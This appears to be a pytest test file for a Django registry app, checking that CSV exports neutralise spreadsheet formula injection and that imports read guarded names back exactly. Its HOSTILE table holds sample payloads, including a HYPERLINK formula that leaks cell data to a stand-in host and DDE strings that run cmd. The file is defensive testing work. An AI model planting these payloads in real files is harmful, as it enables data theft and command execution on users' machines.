"""Every CSV a person may open in a spreadsheet is safe to open: a cell never starts a
formula (OWASP's rule: a quote before = + - @ tab and carriage return, every cell quoted),
and the importer reads the guarded cells back as they were (issue 15, item 7)."""

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from convener.core.spreadsheet import safe_cell, unescape_cell
from convener.exchange.importer import import_path
from convener.org import services
from convener.org.models import Appointment, OrgUnit, Position
from convener.people.models import Person
from tests.factories import MembershipFactory, OrgUnitFactory, PersonFactory, PositionFactory

pytestmark = pytest.mark.django_db

# what a hostile colleague might call themselves, and what a spreadsheet must show instead
HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+SUM(1,1)": "'+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)": "'@SUM(1,1)",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "value,written",
    [
        *HOSTILE.items(),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("'t Hooft", "'t Hooft"),  # an apostrophe that starts a name stays as it is
        ("'=already quoted", "''=already quoted"),  # so that reading back is exact
        ("-0.0125", "-0.0125"),  # a plain number is read as the number, never a formula
        ("+41", "+41"),
        ("", ""),
        (None, ""),
        (7, 7),
    ],
)
def test_a_cell_is_written_so_no_spreadsheet_reads_a_formula_and_reads_back_exactly(value, written):
    assert safe_cell(value) == written
    if isinstance(value, str):
        assert unescape_cell(safe_cell(value)) == value


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_safe(text: str) -> None:
    """Every cell is quoted, and none starts a formula unless it is a plain number."""
    for line in text.splitlines():
        if line:
            assert line.startswith('"') and line.endswith('"'), line
    for row in _cells(text):
        for cell in row:
            assert (
                not cell.startswith(FORMULA_START) or cell.lstrip("+-").replace(".", "").isdigit()
            ), cell


@pytest.fixture
def hostile_holders():
    unit = OrgUnitFactory(name="Trigger", level=1)
    people = []
    for i, name in enumerate(HOSTILE):
        post = PositionFactory(unit=unit, title=f"@Trigger Lead {i}", level="L1")
        person = PersonFactory(name=name)
        services.appoint(person, post, dt.date(2020, 1, 1))
        people.append(person)
    return people


def test_the_public_leaders_csv_never_starts_a_formula(client, hostile_holders):
    response = client.get(reverse("org:leaders"), {"format": "csv"})
    text = response.content.decode()
    _assert_safe(text)
    rows = _cells(text)
    assert sorted(r[0] for r in rows[1:]) == sorted(HOSTILE.values())
    assert {r[2] for r in rows[1:]} == {f"'@Trigger Lead {i}" for i in range(len(HOSTILE))}


def test_the_exported_files_never_start_a_formula_and_import_back_unchanged(
    tmp_path, hostile_holders
):
    first, second = tmp_path / "first", tmp_path / "second"
    call_command("export", "csv", out=str(first), verbosity=0)
    for path in first.iterdir():
        _assert_safe(path.read_text())
    people = _cells((first / "people.csv").read_text())
    assert sorted(r[1] for r in people[1:]) == sorted(HOSTILE.values())
    # into an empty registry: the guard's quote is not part of the names read back
    Appointment.objects.all().delete()
    Position.objects.all().delete()
    OrgUnit.objects.all().delete()
    Person.objects.all().delete()
    report = import_path(first)
    assert report.ok, report.problems
    assert sorted(Person.objects.values_list("name", flat=True)) == sorted(HOSTILE)
    assert set(Position.objects.values_list("title", flat=True)) == {
        f"@Trigger Lead {i}" for i in range(len(HOSTILE))
    }
    call_command("export", "csv", out=str(second), verbosity=0)
    for path in first.iterdir():
        assert path.read_bytes() == (second / path.name).read_bytes(), path.name


def test_the_review_csv_quotes_every_cell(tmp_path):
    MembershipFactory(person=PersonFactory(name="Only Member"), start=dt.date(2020, 1, 1))
    out = tmp_path / "review.csv"
    call_command("review", "prepare", year=2024, verbosity=0)
    call_command(
        "review", "write", year=2024, audience="officer", format="csv", out=out, verbosity=0
    )
    text = out.read_text()
    _assert_safe(text)
    assert _cells(text)[0][:3] == ["year", "audience", "question"]
